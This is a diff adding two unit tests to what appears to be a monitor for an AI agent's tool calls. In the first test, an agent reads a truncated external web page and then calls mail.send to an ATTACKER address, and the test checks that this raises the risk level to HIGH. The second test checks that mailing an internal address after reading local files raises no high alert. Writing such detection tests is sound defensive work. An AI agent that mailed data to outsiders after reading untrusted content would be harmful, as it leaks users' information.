@@ -136,6 +136,26 @@ class WrittenWithinBoundsTest {
     }
 
     @Test
+    void a_strangers_answer_of_which_not_all_was_told_leaves_nobody_known() {
+        try (var run = agent()) {
+            run.notAllTold(true).shows("web.browse", "https://wiki.example/a").notAllTold(null);
+            run.calls("mail.send", Map.of("to", ATTACKER, "body", "the numbers"));
+            assertThat(run.state().level()).isEqualTo(Level.HIGH);
+        }
+    }
+
+    @Test
+    void an_own_answer_of_which_not_all_was_told_makes_nobody_a_stranger() {
+        try (var run = agent()) {
+            run.notAllTold(true).shows("files.list", "plans/a").notAllTold(null);
+            run.calls("mail.send", Map.of("to", "grace@own.example", "body", "the numbers"));
+            assertThat(run.alerts())
+                    .extracting(FindingEvent::severityId)
+                    .allMatch(severity -> severity < FindingEvent.HIGH);
+        }
+    }
+
+    @Test
     void a_session_that_shows_more_than_can_be_held_knows_nobody_any_more() {
         try (var run = agent()) {
             for (int i = 0; i < 4; i++) run.shows("web.browse", links(5_000, i + ".example"));
